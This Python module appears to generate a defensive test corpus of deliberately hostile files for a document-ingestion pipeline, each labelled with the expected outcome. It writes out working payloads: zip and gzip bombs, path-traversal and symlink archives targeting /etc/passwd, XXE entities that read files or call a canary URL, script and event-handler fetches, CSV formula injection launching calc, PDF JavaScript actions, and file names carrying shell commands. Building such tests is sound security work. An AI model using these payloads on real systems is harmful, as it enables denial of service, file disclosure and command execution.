"""Crafted: files built to harm: bombs, loops, entities, scripts, names that climb out of their folder."""

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import replace

from hostile.case import Case, Expected
from hostile.quines import quine_gzip, quine_zip

GIGABYTE = 1 << 30
REFUSED, EITHER, READ = Expected.REFUSED, Expected.EITHER, Expected.READ
WORDS = "Die Schleuse bleibt nach Auskunft der Verwaltung bis zum Abend geschlossen, teilte ein Sprecher mit"


def crafted(canary_url: str, canary_file: str, *, bombs: bool = True) -> list[Case]:
    """Return all crafted files; what they would fetch or read is the canary. Bombs take some seconds to make."""
    cases = [*_blank(), *_archives(), *_entities(canary_url, canary_file), *_pages(canary_url), *_tables(canary_url)]
    cases += [*_nested(), *_mails(canary_url), *_pdfs(canary_url), *_warcs(), *_names(), *(_bombs() if bombs else ())]
    return [replace(case, name=f"crafted-{number:03}-{case.name}") for number, case in enumerate(cases)]


def _blank() -> Iterator[Case]:
    for suffix in (
        ".txt",
        ".html",
        ".pdf",
        ".docx",
        ".csv",
        ".jsonl",
        ".zip",
        ".eml",
        ".xml",
        ".warc",
        ".warc.gz",
        ".wacz",
    ):
        yield Case(f"empty{suffix}", b"", "empty", REFUSED)
    yield Case("blank.txt", b" \n\t\r\n\x0c" * 100, "empty", REFUSED)
    yield Case("bom.txt", b"\xef\xbb\xbf", "empty", REFUSED)
    yield Case("zeros.txt", bytes(100_000), "empty", REFUSED)
    yield Case("blank.html", b"<html><body> <script>1</script></body></html>", "empty", REFUSED)
    yield Case("header-only.csv", b"title,text\n", "empty", REFUSED)
    yield Case("empty-archive.zip", _zip({}), "empty", REFUSED)


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 3, 1, 0, 0, 0)), content, compression)
    return out.getvalue()


def _text(word: str) -> bytes:
    return f"Der Damm hält\n\n{WORDS}, {word}.\n".encode()


def _archives() -> Iterator[Case]:
    climbing = (
        "../../escaped.txt",
        "/tmp/escaped.txt",
        "C:\\escaped.txt",
        "..\\..\\escaped.txt",
        "a/../../escaped.txt",
    )
    for number, name in enumerate(climbing):
        yield Case(
            "climbing.zip", _zip({name: _text(f"Kletterwort{number}")}), "path traversal", READ, f"Kletterwort{number}"
        )
        yield Case("climbing.tar", _tar(name, _text(f"Tarwort{number}")), "path traversal", EITHER)
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    yield Case("symlink.zip", _zip_of(link, b"/etc/passwd"), "path traversal", EITHER)
    yield Case("symlink.tar", _tar_link("/etc/passwd"), "path traversal", EITHER)
    deep = _zip({"boden.txt": _text("Tiefenwort")})
    for _ in range(50):
        deep = _zip({"tiefer.zip": deep}, zipfile.ZIP_STORED)
    yield Case("deep.zip", deep, "nested archive", REFUSED)
    yield Case("itself.gz", quine_gzip(), "nested archive", REFUSED)
    yield Case("itself.zip", quine_zip(), "nested archive", REFUSED)
    yield Case("encrypted.zip", _encrypted(), "damaged archive", REFUSED)
    yield Case("count-lies.zip", _zip({"a.txt": _text("a")})[:-12] + b"\xff" * 12, "damaged archive", REFUSED)
    yield Case("same-name.zip", _same_name(), "damaged archive", EITHER)


def _zip_of(info: zipfile.ZipInfo, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, content)
    return out.getvalue()


def _tar(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _tar_link(target: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("passwd.txt")
        info.type, info.linkname = tarfile.SYMTYPE, target
        archive.addfile(info)
    return out.getvalue()


def _encrypted() -> bytes:
    data = bytearray(_zip({"geheim.txt": _text("geheim")}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _same_name() -> bytes:
    data = _zip({"aaaa.txt": _text("eins"), "bbbb.txt": _text("zwei")})
    return data.replace(b"bbbb.txt", b"aaaa.txt")


def _bombs() -> Iterator[Case]:
    yield Case("bomb.zip", _zip_bomb(), "archive bomb", REFUSED)
    yield Case("bomb.txt.gz", _gzip_bomb(), "archive bomb", REFUSED)
    yield Case(
        "bomb.warc.gz",
        _gzip_bomb(b"WARC/1.1\r\nWARC-Type: response\r\nContent-Length: 1073741824\r\n\r\n"),
        "archive bomb",
        REFUSED,
    )
    yield Case("overlap.zip", _overlapping(), "archive bomb", REFUSED)
    yield Case("bomb.docx", _docx_bomb(), "archive bomb", REFUSED)
    yield Case("matryoshka.zip", _matryoshka(), "archive bomb", REFUSED)
    yield Case("many.zip", _zip({f"{n}.txt": b"" for n in range(3000)}), "archive bomb", EITHER)


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("null.txt", "w", force_zip64=True) as member,
    ):
        for _ in range(GIGABYTE >> 24):
            member.write(bytes(1 << 24))
    return out.getvalue()


def _gzip_bomb(head: bytes = b"") -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as stream:
        stream.write(head)
        for _ in range(GIGABYTE >> 24):
            stream.write(bytes(1 << 24))
    return out.getvalue()


def _overlapping() -> bytes:
    """Return an archive that lists one large member two thousand times."""
    data = _zip({"gross.txt": (WORDS.encode() + b"\n") * 100_000})
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 2000, 2000, len(entry) * 2000, start, 0)
    return data[:start] + entry * 2000 + end


def _docx_bomb() -> bytes:
    parts = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>',
        "word/document.xml": b"<w>" + b" " * (300 << 20) + b"</w>",
    }
    return _zip(parts)


def _matryoshka() -> bytes:
    inner = _zip({f"{n}.txt": b"a" * (4 << 20) for n in range(16)})
    for _ in range(3):
        inner = _zip({f"{n}.zip": inner for n in range(16)})
    return inner


def _entities(canary_url: str, canary_file: str) -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bodies = {
        "laughs": (f'<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 2_000),
        "file": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary_file}">]>', "&x;"),
        "url": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{canary_url}/entity">]>', "&x;"),
        "dtd": (f'<!DOCTYPE r SYSTEM "{canary_url}/r.dtd">', "Text"),
        "parameter": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{canary_url}/p.dtd"> %p;]>', "Text"),
    }
    for name, (declared, used) in bodies.items():
        head = f'<?xml version="1.0"?>{declared}'
        item = f"<item><title>{used}</title><description>{used} {WORDS}.</description></item>"
        yield Case(
            f"{name}.xml",
            f'{head}<rss version="2.0"><channel><title>T</title>{item}</channel></rss>'.encode(),
            "entities",
        )
        entry = f"<entry><title>T</title><content>{used} {WORDS}.</content></entry>"
        yield Case(
            f"{name}.atom",
            f'{head}<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>{entry}</feed>'.encode(),
            "entities",
        )
        yield Case(
            f"{name}.xhtml",
            f'{head}<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{used} {WORDS}.</p></body></html>'.encode(),
            "entities",
        )
        yield Case(f"{name}.docx", _docx(f"{declared}", used), "entities")


def _docx(declared: str, used: str) -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = (
        f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>{used} {WORDS}.</w:t></w:r></w:p></w:body></w:document>'
    )
    kinds = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    return _zip(
        {
            "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
            f'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override '
            f'PartName="/word/document.xml" ContentType="{kinds}"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships xmlns="{relations}"><Relationship Id="r1" Type="{office}" '
            f'Target="word/document.xml"/></Relationships>'.encode(),
            "word/document.xml": f'<?xml version="1.0"?>{declared}{body}'.encode(),
        }
    )


def _pages(canary_url: str) -> Iterator[Case]:
    harm = {
        "script": f"<script>fetch('{canary_url}/script')</script><script src='{canary_url}/s.js'></script>",
        "handlers": f"<img src=x onerror=\"fetch('{canary_url}/onerror')\"><body onload=\"location='{canary_url}/onload'\">",
        "frames": f"<iframe src='{canary_url}/frame'></iframe><object data='{canary_url}/o'></object><embed src='{canary_url}/e'>",
        "refresh": f"<meta http-equiv=refresh content=\"0;url={canary_url}/refresh\"><base href='{canary_url}/'>",
        "styles": f"<link rel=stylesheet href='{canary_url}/c.css'><style>@import url({canary_url}/i.css);</style>",
        "svg": f"<svg onload=\"fetch('{canary_url}/svg')\"><image href='{canary_url}/image'/></svg>",
        "links": f"<a href=\"javascript:fetch('{canary_url}/a')\">Tor</a><a href='file:///etc/passwd'>Damm</a>",
        "include": f"<!--#include virtual=\"/etc/passwd\"--><?php system('id') ?>{{{{ 7*7 }}}}<img src='{canary_url}/img'>",
    }
    for number, (name, markup) in enumerate(harm.items()):
        word = f"Seitenwort{number}"
        page = f"<html><head><title>Damm</title></head><body>{markup}<article><h1>Damm</h1><p>{WORDS}, {word}.</p></article></body></html>"
        yield Case(f"{name}.html", page.encode(), "active page", READ, word)
    yield Case("unclosed.html", b"<div><p>" + b"<b><i>" * 60_000 + WORDS.encode(), "deep nesting")
    yield Case("comment.html", b"<html><!-- " + WORDS.encode() * 10_000, "deep nesting")
    yield Case(
        "attributes.html",
        b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">" + WORDS.encode(),
        "deep nesting",
    )
    yield Case("entities.html", b"<p>" + b"&#x110000;&#0;&#xD800;&nosuch;" * 20_000 + WORDS.encode(), "deep nesting")
    yield Case("tables.html", b"<table><tr><td>" * 30_000 + WORDS.encode(), "deep nesting")


def _nested() -> Iterator[Case]:
    yield Case("lists.json", b"[" * 200_000 + b"]" * 200_000, "deep nesting")
    yield Case("objects.jsonl", b'{"text":' * 100_000 + b'"x"' + b"}" * 100_000, "deep nesting")
    yield Case("elements.xml", b"<rss>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</rss>", "deep nesting")
    yield Case("quotes.md", b"> " * 300_000 + WORDS.encode(), "deep nesting")
    yield Case("brackets.txt", b"[" * 300_000 + WORDS.encode() + b"](#)" * 100_000, "deep nesting")
    yield Case("dashes.txt", b"- " * 500_000, "deep nesting")
    yield Case("blanks.txt", b"Von" + b" " * 1_000_000 + b"Ende. " + WORDS.encode(), "huge line")
    yield Case("letters.txt", b"a" * 4_000_000, "huge line")
    yield Case("digits.txt", b"1" * 2_000_000 + b".", "huge line")
    yield Case("marks.txt", ("a" + "\u0301" * 500_000).encode(), "huge line")
    yield Case("dates.txt", b"3. Dezember 2025 " * 100_000, "huge line")
    yield Case("names.txt", b"Von Ines Vollrath und " * 100_000, "huge line")
    yield Case("lines.txt", b"a\n" * 500_000, "huge line")
    yield Case("urls.txt", b"https://" + b"a." * 500_000, "huge line")


def _tables(canary_url: str) -> Iterator[Case]:
    formula = f'=HYPERLINK("{canary_url}/csv","Klick"),"{WORDS}, Formelwort."'
    yield Case(
        "formula.csv",
        f'title,text\n"{formula.split(",")[0]}","{WORDS}, Formelwort."\n'.replace('""', '"').encode(),
        "table",
        EITHER,
    )
    injected = '"=cmd|\' /C calc\'!A0","@SUM(1+1)*cmd","' + WORDS + ', Zellenwort."'
    yield Case("injection.csv", f"title,author,text\n{injected}\n".encode(), "table", READ, "Zellenwort")
    yield Case("unbalanced.csv", b'title,text\n"a,"b\n' + b'"' * 100_001, "table")
    yield Case("wide.csv", b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b"," * 99_999, "table")
    yield Case("field.csv", b"title,text\nx," + b"a" * 6_000_000, "table")
    yield Case(
        "surrogate.jsonl",
        json.dumps({"title": "\ud800 Tor", "text": f"{WORDS}, Ersatzwort \udfff."}).encode(),
        "table",
    )
    yield Case(
        "nul.jsonl", json.dumps({"title": "T\0", "text": f"{WORDS}\0, Nullwort."}).encode(), "table", READ, "Nullwort"
    )
    yield Case("number.jsonl", b'{"title": 1e999999, "text": ' + b"9" * 10_000 + b"}", "table")
    yield Case("types.jsonl", b'{"title": [], "text": {"a": 1}}\n[]\nnull\n"x"\n{"text": null}\n', "table")
    mixed = json.dumps({"title": "Gut", "text": f"{WORDS}, Zeilenwort."}).encode()
    yield Case("broken-line.jsonl", b'{"text": \n' + mixed + b"\n{]\n", "table", READ, "Zeilenwort")
    dates = [
        {"title": "T", "date": date, "text": f"{WORDS}."}
        for date in ("9999-99-99", "-1", "1e400", "𝟚𝟘𝟚𝟞-03-01", "0000-00-00")
    ]
    yield Case("dates.jsonl", "\n".join(map(json.dumps, dates)).encode(), "table")


def _mails(canary_url: str) -> Iterator[Case]:
    head = "From: a@b.example\nSubject: Tor\nDate: Mon, 99 Foo 2026 99:99:99 +9999\nMIME-Version: 1.0\n"
    nested = head + "Content-Type: text/plain\n\nBoden\n"
    for _ in range(150):
        nested = f"{head}Content-Type: message/rfc822\n\n{nested}"
    yield Case("nested.eml", nested.encode(), "mail")
    parts = f'{head}Content-Type: multipart/mixed; boundary="b"\n\n' + "--b\nContent-Type: text/plain\n\nx\n" * 20_000
    yield Case("parts.eml", parts.encode(), "mail")
    yield Case("boundary.eml", f"{head}Content-Type: multipart/mixed\n\n--\n--\n".encode(), "mail")
    yield Case("charset.eml", f"{head}Content-Type: text/plain; charset=nix-8\n\n{WORDS}.\n".encode(), "mail")
    yield Case(
        "base64.eml", f"{head}Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n%%%%\n".encode(), "mail"
    )
    image = f'{head}Content-Type: text/html\n\n<p>{WORDS}, Postwort.</p><img src="{canary_url}/pixel">\n'
    yield Case("pixel.eml", image.encode(), "mail", READ, "Postwort")
    yield Case("headers.eml", b"".join(b"X-%d: y\n" % n for n in range(100_000)) + b"\nText", "mail")
    yield Case("subject.eml", b"From: a@b.example\nSubject: =?utf-8?b?" + b"/////" * 20_000 + b"?=\n\nText", "mail")


def _pdfs(canary_url: str) -> Iterator[Case]:
    action = f"<</S/JavaScript/JS(app.launchURL('{canary_url}/pdf'))>>"
    yield Case("script.pdf", _pdf(f"<</Type/Catalog/Pages 2 0 R/OpenAction {action}>>", b"BT (Damm) Tj ET"), "pdf")
    link = f"<</S/URI/URI({canary_url}/uri)>>"
    yield Case("uri.pdf", _pdf(f"<</Type/Catalog/Pages 2 0 R/OpenAction {link}>>", b""), "pdf")
    yield Case(
        "stream.pdf",
        _pdf("<</Type/Catalog/Pages 2 0 R>>", zlib.compress(bytes(200 << 20)), "/Filter/FlateDecode"),
        "pdf",
    )
    loop = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
    yield Case("loop.pdf", loop, "pdf", REFUSED)
    many = loop.replace(b"[2 0 R]/Count 1", b"[2 0 R]/Count 999999999")
    yield Case("count.pdf", many, "pdf", REFUSED)
    yield Case("head.pdf", b"%PDF-1.7\n", "pdf", REFUSED)


def _pdf(catalog: str, stream: bytes, filters: str = "") -> bytes:
    objects = [
        catalog.encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R>>",
        f"<</Length {len(stream)}{filters}>>stream\n".encode() + stream + b"\nendstream",
    ]
    body = b"".join(b"%d 0 obj%bendobj\n" % (n, content) for n, content in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R>>\n"


def _warcs() -> Iterator[Case]:
    for name, length in (("negative", "-5"), ("huge", "99999999999999999999"), ("words", "viel"), ("none", "")):
        head = (
            f"WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: http://a.example/\r\nContent-Length: {length}\r\n\r\n"
        )
        yield Case(f"{name}.warc", head.encode() + b"HTTP/1.1 200 OK\r\n\r\nText", "warc")
    body = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n{WORDS}".encode()
    head = (
        f"WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: file:///etc/passwd\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    yield Case("encoding.warc", head.encode() + body + b"\r\n\r\n", "warc")
    yield Case("headers.warc", b"WARC/1.1\r\n" + b"A: b\r\n" * 300_000, "warc")


def _names() -> Iterator[Case]:
    odd = (
        "$(touch escaped).txt",
        "`touch escaped`.txt",
        "; touch escaped;.txt",
        "-rf.txt",
        "a\nb.txt",
        "x\u202etxt.exe",
        "ж" * 90 + ".txt",
    )
    for number, name in enumerate(
        (*odd, "%s%n%x.txt", "a!b!/c.txt".replace("/", "∕"), "😀e\u0301.txt", "NUL.txt", "run.py", "run.sh", "run.exe")
    ):
        word = f"Namenwort{number}"
        yield Case(name, _text(word), "file name", READ, word)
